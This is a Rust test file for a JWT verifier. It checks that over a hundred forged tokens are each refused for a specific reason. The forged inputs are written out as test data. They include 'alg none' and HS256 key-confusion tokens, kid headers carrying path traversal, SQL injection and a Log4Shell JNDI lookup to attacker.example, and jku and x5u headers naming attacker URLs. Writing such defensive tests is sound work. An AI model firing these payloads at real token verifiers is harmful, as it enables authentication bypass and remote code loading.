//! The table of forged tokens: each is refused, and for its own reason.

use jsonwebtoken::Algorithm;
use serde_json::{Value, json};
use traffic_manager::auth::jwt::{Now, TokenRefusal};

use crate::{
    issuer::{AUDIENCE, Issuer, NAME},
    signer::{Signer, base64, claims, sign_with_secret, unsigned},
};

/// A description, the token, and the expected reason of the refusal (`None`: the token is
/// accepted).
type Row = (String, String, Option<TokenRefusal>);

fn row(what: &str, token: impl Into<String>, refused: TokenRefusal) -> Row {
    (what.to_owned(), token.into(), Some(refused))
}

fn accepted(what: &str, token: impl Into<String>) -> Row {
    (what.to_owned(), token.into(), None)
}

/// The signer's own header with these members changed.
fn header(signer: &Signer, changes: Value) -> Value {
    let mut header = signer.header();
    let Value::Object(changes) = changes else {
        panic!("changes are an object")
    };
    for (name, value) in changes {
        header[name] = value;
    }
    header
}

fn algorithms(now: Now, rsa: &Signer, ec: &Signer) -> Vec<Row> {
    let good = claims(now, json!({}));
    let mut rows: Vec<Row> = ["none", "None", "NONE", "nOnE", ""]
        .iter()
        .map(|alg| {
            let text = unsigned(
                &header(rsa, json!({ "alg": alg })).to_string(),
                &good.to_string(),
            );
            row(
                &format!("alg {alg:?}, without a signature"),
                format!("{text}."),
                TokenRefusal::WrongAlgorithm,
            )
        })
        .collect();
    let symmetric = header(rsa, json!({ "alg": "HS256" }));
    for (what, secret) in [
        ("PEM", rsa.public_pem.as_bytes()),
        ("DER", rsa.public_der.as_slice()),
        (
            "modulus",
            rsa.jwk["n"].as_str().expect("a modulus").as_bytes(),
        ),
    ] {
        let token = sign_with_secret(secret, &symmetric, &good);
        rows.push(row(
            &format!("HS256 with the public key as the secret ({what})"),
            token,
            TokenRefusal::WrongAlgorithm,
        ));
    }
    let pss = rsa.sign_as(
        Algorithm::PS256,
        &header(rsa, json!({ "alg": "PS256" })),
        &good,
    );
    let longer = rsa.sign_as(
        Algorithm::RS512,
        &header(rsa, json!({ "alg": "RS512" })),
        &good,
    );
    rows.extend([
        row(
            "PS256 with a key for RS256",
            pss,
            TokenRefusal::WrongAlgorithm,
        ),
        row(
            "RS512 with a key for RS256",
            longer,
            TokenRefusal::WrongAlgorithm,
        ),
        row(
            "ES256 by the name of an RSA key",
            ec.with_header(&header(ec, json!({ "kid": "rsa-1" })), &good),
            TokenRefusal::WrongAlgorithm,
        ),
        row(
            "RS256 by the name of an EC key",
            rsa.with_header(&header(rsa, json!({ "kid": "ec-1" })), &good),
            TokenRefusal::WrongAlgorithm,
        ),
        row(
            "alg in small letters",
            rsa.with_header(&header(rsa, json!({ "alg": "rs256" })), &good),
            TokenRefusal::WrongAlgorithm,
        ),
        row(
            "alg is a number",
            rsa.with_header(&header(rsa, json!({ "alg": 256 })), &good),
            TokenRefusal::Malformed,
        ),
        row(
            "signed as PS256, said to be RS256",
            rsa.sign_as(Algorithm::PS256, &rsa.header(), &good),
            TokenRefusal::BadSignature,
        ),
    ]);
    rows
}

fn keys(now: Now, rsa: &Signer) -> Vec<Row> {
    let good = claims(now, json!({}));
    let stranger = Signer::stranger();
    let mut rows: Vec<Row> = [
        "rsa-2",
        "RSA-1",
        "rsa-1 ",
        "",
        "../../../../dev/null",
        "/proc/self/environ",
        "rsa-1\u{0}",
        "rsa-1' OR '1'='1",
        "x' UNION SELECT 'key' --",
        "${jndi:ldap://attacker.example/a}",
        "http://attacker.example/key",
        &"k".repeat(4000),
    ]
    .iter()
    .map(|kid| {
        let what: String = format!("kid {kid:?}").chars().take(60).collect();
        row(
            &what,
            rsa.with_header(&header(rsa, json!({ "kid": kid })), &good),
            TokenRefusal::UnknownKey,
        )
    })
    .collect();
    let mut own = stranger.jwk.clone();
    own["kid"] = json!("rsa-1");
    let brought = |changes: Value| stranger.with_header(&header(stranger, changes), &good);
    rows.extend([
        row(
            "a stranger's signature",
            stranger.token(&good),
            TokenRefusal::BadSignature,
        ),
        row(
            "jwk in the header",
            brought(json!({ "jwk": own })),
            TokenRefusal::BadSignature,
        ),
        row(
            "jku in the header",
            brought(json!({ "jku": "https://attacker.example/jwks" })),
            TokenRefusal::BadSignature,
        ),
        row(
            "x5u in the header",
            brought(json!({ "x5u": "https://attacker.example/cert" })),
            TokenRefusal::BadSignature,
        ),
        row(
            "x5c in the header",
            brought(json!({ "x5c": [base64(&stranger.public_der)] })),
            TokenRefusal::BadSignature,
        ),
        row(
            "kid is a list",
            rsa.with_header(&header(rsa, json!({ "kid": ["rsa-1"] })), &good),
            TokenRefusal::Malformed,
        ),
        row(
            "no kid, and there are several keys",
            rsa.with_header(&json!({ "alg": "RS256" }), &good),
            TokenRefusal::UnknownKey,
        ),
        accepted(
            "jku in the header of a good token",
            rsa.with_header(&header(rsa, json!({ "jku": "https://x.example" })), &good),
        ),
    ]);
    rows
}

fn shapes(now: Now, rsa: &Signer, ec: &Signer) -> Vec<Row> {
    let good = claims(now, json!({}));
    let token = rsa.token(&good);
    let parts: Vec<&str> = token.split('.').collect();
    let with = |changes: Value| rsa.with_header(&header(rsa, changes), &good);
    let of_ec = unsigned(&ec.header().to_string(), &good.to_string());
    let doubled_alg = r#"{"alg":"none","alg":"RS256","kid":"rsa-1"}"#;
    let doubled_typ = r#"{"alg":"RS256","kid":"rsa-1","x":1,"x":2}"#;
    let text = good.to_string();
    let doubled = |member: &str| {
        rsa.sign(
            &rsa.header().to_string(),
            &format!("{},{member}}}", &text[..text.len() - 1]),
        )
    };
    let tampered = unsigned(
        &rsa.header().to_string(),
        &claims(now, json!({ "tenant": "globex" })).to_string(),
    );
    vec![
        row("empty", "", TokenRefusal::Malformed),
        row("two dots", "..", TokenRefusal::Malformed),
        row("one part", parts[0], TokenRefusal::Malformed),
        row(
            "two parts",
            format!("{}.{}", parts[0], parts[1]),
            TokenRefusal::Malformed,
        ),
        row(
            "four parts",
            format!("{token}.{}", parts[0]),
            TokenRefusal::Malformed,
        ),
        row(
            "five parts: encrypted",
            format!("{token}.{}.{}", parts[0], parts[0]),
            TokenRefusal::Encrypted,
        ),
        row(
            "a token in a token",
            rsa.sign(&header(rsa, json!({ "cty": "JWT" })).to_string(), &token),
            TokenRefusal::Malformed,
        ),
        row(
            "huge",
            format!("{token}{}", "A".repeat(8192)),
            TokenRefusal::TooLarge,
        ),
        row(
            "huge claims, well signed",
            rsa.token(&claims(now, json!({ "x": "y".repeat(8192) }))),
            TokenRefusal::TooLarge,
        ),
        row(
            "header is no base64",
            format!("{}.{}.{}", "%%%%", parts[1], parts[2]),
            TokenRefusal::Malformed,
        ),
        row(
            "header is no UTF-8",
            format!(
                "{}.{}.{}",
                base64(b"{\"alg\":\"\xff\xfe\"}"),
                parts[1],
                parts[2]
            ),
            TokenRefusal::Malformed,
        ),
        row(
            "header with base64 padding",
            format!("{}=.{}.{}", parts[0], parts[1], parts[2]),
            TokenRefusal::Malformed,
        ),
        row(
            "header is a list",
            rsa.sign("[]", &text),
            TokenRefusal::Malformed,
        ),
        row(
            "claims are a list",
            rsa.sign(&rsa.header().to_string(), "[]"),
            TokenRefusal::Malformed,
        ),
        row(
            "claims are deep",
            rsa.sign(&rsa.header().to_string(), &"[".repeat(2000)),
            TokenRefusal::Malformed,
        ),
        row(
            "tampered claims",
            format!("{tampered}.{}", parts[2]),
            TokenRefusal::BadSignature,
        ),
        row(
            "truncated signature",
            &token[..token.len() - 10],
            TokenRefusal::BadSignature,
        ),
        row(
            "empty signature",
            format!("{}.{}.", parts[0], parts[1]),
            TokenRefusal::BadSignature,
        ),
        row(
            "signature is no base64",
            format!("{}.{}.%%%%", parts[0], parts[1]),
            TokenRefusal::Malformed,
        ),
        row(
            "ECDSA signature of zeros",
            format!("{of_ec}.{}", base64(&[0; 64])),
            TokenRefusal::BadSignature,
        ),
        row(
            "crit",
            with(json!({ "crit": ["exp"], "exp": 1 })),
            TokenRefusal::Critical,
        ),
        row(
            "an empty crit",
            with(json!({ "crit": [] })),
            TokenRefusal::Critical,
        ),
        row(
            "b64 false",
            with(json!({ "b64": false })),
            TokenRefusal::Critical,
        ),
        row(
            "typ of a logout token",
            with(json!({ "typ": "logout+jwt" })),
            TokenRefusal::WrongType,
        ),
        row(
            "typ of a proof of possession",
            with(json!({ "typ": "dpop+jwt" })),
            TokenRefusal::WrongType,
        ),
        row(
            "alg twice",
            rsa.sign(doubled_alg, &text),
            TokenRefusal::Malformed,
        ),
        row(
            "a header member twice",
            rsa.sign(doubled_typ, &text),
            TokenRefusal::Malformed,
        ),
        row(
            "sub twice",
            doubled(r#""sub":"root""#),
            TokenRefusal::Malformed,
        ),
        row(
            "tenant twice",
            doubled(r#""tenant":"globex""#),
            TokenRefusal::Malformed,
        ),
        row(
            "roles twice, deep",
            doubled(r#""a":{"roles":["viewer"],"roles":["editor"]}"#),
            TokenRefusal::Malformed,
        ),
        accepted("typ of an access token", with(json!({ "typ": "at+jwt" }))),
        accepted("typ in small letters", with(json!({ "typ": "jwt" }))),
        accepted(
            "no typ",
            rsa.with_header(&json!({ "alg": "RS256", "kid": "rsa-1" }), &good),
        ),
    ]
}

fn times(now: Now, rsa: &Signer) -> Vec<Row> {
    let with = |changes: Value| rsa.token(&claims(now, changes));
    let at = |seconds: f64| json!(now.unix + seconds);
    vec![
        row(
            "expired a second past the leeway",
            with(json!({ "exp": at(-6.0), "iat": at(-60.0) })),
            TokenRefusal::Expired,
        ),
        row(
            "expires exactly at the leeway",
            with(json!({ "exp": at(-5.0), "iat": at(-60.0) })),
            TokenRefusal::Expired,
        ),
        accepted(
            "expired within the leeway",
            with(json!({ "exp": at(-4.0), "iat": at(-60.0) })),
        ),
        row(
            "nbf to come",
            with(json!({ "nbf": at(6.0) })),
            TokenRefusal::NotYetValid,
        ),
        accepted("nbf within the leeway", with(json!({ "nbf": at(4.0) }))),
        row(
            "iat to come",
            with(json!({ "iat": at(6.0) })),
            TokenRefusal::NotYetValid,
        ),
        row(
            "valid for a day and a second",
            with(json!({ "iat": at(0.0), "exp": at(86_401.0) })),
            TokenRefusal::TooLongLived,
        ),
        row(
            "the same without iat",
            with(json!({ "iat": null, "exp": at(86_401.0) })),
            TokenRefusal::TooLongLived,
        ),
        row(
            "long ago, for ever",
            with(json!({ "iat": 1, "exp": at(60.0) })),
            TokenRefusal::TooLongLived,
        ),
        accepted("without iat", with(json!({ "iat": null }))),
        row(
            "exp is a text",
            with(json!({ "exp": "9999999999" })),
            TokenRefusal::MissingClaim,
        ),
        row(
            "exp is negative",
            with(json!({ "exp": -1 })),
            TokenRefusal::MissingClaim,
        ),
        row(
            "exp beyond all numbers",
            with(json!({ "exp": 1e300 })),
            TokenRefusal::MissingClaim,
        ),
        row(
            "exp beyond exact numbers",
            with(json!({ "exp": 1e17 })),
            TokenRefusal::BadClaim,
        ),
        row(
            "nbf is a text",
            with(json!({ "nbf": "0" })),
            TokenRefusal::BadClaim,
        ),
        row(
            "iat is a list",
            with(json!({ "iat": [0] })),
            TokenRefusal::BadClaim,
        ),
    ]
}

fn identities(now: Now, rsa: &Signer) -> Vec<Row> {
    let with = |changes: Value| rsa.token(&claims(now, changes));
    vec![
        row(
            "no exp",
            with(json!({ "exp": null })),
            TokenRefusal::MissingClaim,
        ),
        row(
            "no iss",
            with(json!({ "iss": null })),
            TokenRefusal::MissingClaim,
        ),
        row(
            "no aud",
            with(json!({ "aud": null })),
            TokenRefusal::MissingClaim,
        ),
        row(
            "no sub",
            with(json!({ "sub": null })),
            TokenRefusal::MissingClaim,
        ),
        row(
            "another issuer",
            with(json!({ "iss": "https://attacker.example" })),
            TokenRefusal::WrongIssuer,
        ),
        row(
            "the issuer with a slash",
            with(json!({ "iss": format!("{NAME}/") })),
            TokenRefusal::WrongIssuer,
        ),
        row(
            "a list of issuers with ours",
            with(json!({ "iss": [NAME, "https://attacker.example"] })),
            TokenRefusal::WrongIssuer,
        ),
        row(
            "another audience",
            with(json!({ "aud": "billing" })),
            TokenRefusal::WrongAudience,
        ),
        row(
            "audiences without ours",
            with(json!({ "aud": ["billing", "traffic-manager-test"] })),
            TokenRefusal::WrongAudience,
        ),
        row(
            "an empty list of audiences",
            with(json!({ "aud": [] })),
            TokenRefusal::WrongAudience,
        ),
        accepted(
            "audiences with ours",
            with(json!({ "aud": ["billing", AUDIENCE] })),
        ),
        row(
            "an empty sub",
            with(json!({ "sub": "" })),
            TokenRefusal::BadClaim,
        ),
        row(
            "a huge sub",
            with(json!({ "sub": "s".repeat(256) })),
            TokenRefusal::BadClaim,
        ),
        row(
            "a sub with a line break",
            with(json!({ "sub": "alice\nlevel=info" })),
            TokenRefusal::BadClaim,
        ),
        row(
            "a sub with a NUL",
            with(json!({ "sub": "alice\u{0}" })),
            TokenRefusal::BadClaim,
        ),
        row(
            "sub is a number",
            with(json!({ "sub": 7 })),
            TokenRefusal::MissingClaim,
        ),
        accepted("a long sub", with(json!({ "sub": "ä".repeat(127) }))),
    ]
}

fn grants(now: Now, rsa: &Signer) -> Vec<Row> {
    let with = |changes: Value| rsa.token(&claims(now, changes));
    vec![
        row(
            "no roles",
            with(json!({ "roles": null })),
            TokenRefusal::NoGrant("no_role"),
        ),
        row(
            "unknown roles",
            with(json!({ "roles": ["root", "admin"] })),
            TokenRefusal::NoGrant("no_role"),
        ),
        row(
            "roles in capitals",
            with(json!({ "roles": ["PLATFORM_ADMIN"] })),
            TokenRefusal::NoGrant("no_role"),
        ),
        row(
            "roles are an object",
            with(json!({ "roles": { "editor": true } })),
            TokenRefusal::BadClaim,
        ),
        row(
            "a role is a number",
            with(json!({ "roles": ["editor", 1] })),
            TokenRefusal::BadClaim,
        ),
        row(
            "no tenant",
            with(json!({ "tenant": null })),
            TokenRefusal::NoGrant("tenant_required"),
        ),
        row(
            "an editor of all tenants",
            with(json!({ "tenant": "*" })),
            TokenRefusal::NoGrant("tenant_required"),
        ),
        row(
            "an auditor without a tenant",
            with(json!({ "tenant": null, "roles": ["auditor"] })),
            TokenRefusal::NoGrant("tenant_required"),
        ),
        row(
            "a platform_admin of a tenant",
            with(json!({ "roles": ["platform_admin"] })),
            TokenRefusal::NoGrant("not_of_a_tenant"),
        ),
        row(
            "tenant is no DNS label",
            with(json!({ "tenant": "acme/../globex" })),
            TokenRefusal::NoGrant("bad_tenant"),
        ),
        row(
            "tenant in capitals",
            with(json!({ "tenant": "ACME" })),
            TokenRefusal::NoGrant("bad_tenant"),
        ),
        row(
            "an empty tenant",
            with(json!({ "tenant": "" })),
            TokenRefusal::NoGrant("bad_tenant"),
        ),
        row(
            "a list of tenants",
            with(json!({ "tenant": ["acme", "globex"] })),
            TokenRefusal::BadClaim,
        ),
        row(
            "narrowed to no service",
            with(json!({ "services": [] })),
            TokenRefusal::BadClaim,
        ),
        row(
            "narrowed to an empty text",
            with(json!({ "envs": " " })),
            TokenRefusal::BadClaim,
        ),
        row(
            "services are a number",
            with(json!({ "services": 1 })),
            TokenRefusal::BadClaim,
        ),
        row(
            "an env that is no label",
            with(json!({ "envs": ["prod", "*"] })),
            TokenRefusal::NoGrant("not_a_dns_label"),
        ),
        row(
            "a narrowed viewer",
            with(json!({ "roles": ["viewer"], "envs": ["prod"] })),
            TokenRefusal::NoGrant("not_narrowed"),
        ),
    ]
}

#[tokio::test]
async fn every_forged_token_is_refused_for_its_reason() {
    let (rsa, ec, ed) = (Signer::rsa(), Signer::ec("ec-1"), Signer::ed("ed-1"));
    let issuer = Issuer::with(&[rsa, &ec, &ed]);
    let now = Now::read();
    let verifier = issuer.ready(&[], now).await;
    let good = claims(now, json!({}));
    let mut rows: Vec<Row> = [rsa, &ec, &ed]
        .iter()
        .map(|signer| accepted(&signer.kid, signer.token(&good)))
        .collect();
    rows.extend(algorithms(now, rsa, &ec));
    rows.extend(keys(now, rsa));
    rows.extend(shapes(now, rsa, &ec));
    rows.extend(times(now, rsa));
    rows.extend(identities(now, rsa));
    rows.extend(grants(now, rsa));
    let mut faults = Vec::new();
    for (what, token, expected) in &rows {
        let refused = verifier.verify_at(token, now).await.err();
        if refused != *expected {
            faults.push(format!("{what}: {refused:?}, not {expected:?}"));
        }
        if expected.is_some() && verifier.verified_at(token, now).is_some() {
            faults.push(format!("{what}: remembered as good"));
        }
    }
    assert!(
        faults.is_empty(),
        "{} of {} rows:\n{}",
        faults.len(),
        rows.len(),
        faults.join("\n")
    );
    let forged = rows
        .iter()
        .filter(|(_, _, expected)| expected.is_some())
        .count();
    assert!(forged >= 100, "{forged} forged tokens");
    assert_eq!(
        issuer.asked(),
        2,
        "one fetch at the start, one for all the unknown names"
    );
}
